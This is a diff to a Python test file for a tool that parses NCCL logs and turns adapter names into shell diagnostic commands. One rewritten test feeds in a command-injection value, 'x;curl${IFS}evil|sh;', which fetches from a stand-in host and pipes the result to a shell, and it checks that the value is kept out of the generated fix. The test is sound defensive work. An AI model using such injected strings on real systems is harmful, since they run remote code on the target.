@@ -1,13 +1,14 @@
 """NCCL's log, from recordings of versions 2.14 to 2.30: each rule fires where it must and only there."""
 
 from collections.abc import Mapping
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
 from aboard.checks.collective.exercise import COLLECTIVE, Collective
 from aboard.checks.collective.nccl_log import NcclLog, parse_log
-from aboard.checks.collective.nccl_rules import NCCL_RULES
+from aboard.checks.collective.nccl_rules import NCCL_RULES, _counters
 from aboard.checks.fabric.ports import PORTS, Port
 from aboard.core.cluster import Cluster
 from aboard.core.facts import Facts
@@ -159,5 +160,6 @@ def test_other_lines_are_nobodys_business(line: str) -> None:
 
 def test_an_adapter_whose_name_is_no_name_stays_out_of_the_fix() -> None:
     """It comes from a node's log, and the fix is for a shell."""
-    assert _counters(NcclLog(completions=("mlx5_0:1",))).startswith("; ethtool -S $(ls /sys/class/infiniband/mlx5_0/")
-    assert _counters(NcclLog(completions=("x;curl${IFS}evil|sh;",))) == ""
+    log = parse_log(())
+    assert "/infiniband/mlx5_0/device" in _counters(replace(log, completions={"mlx5_0:1": 1}))
+    assert _counters(replace(log, completions={"x;curl${IFS}evil|sh;": 1})) == ""
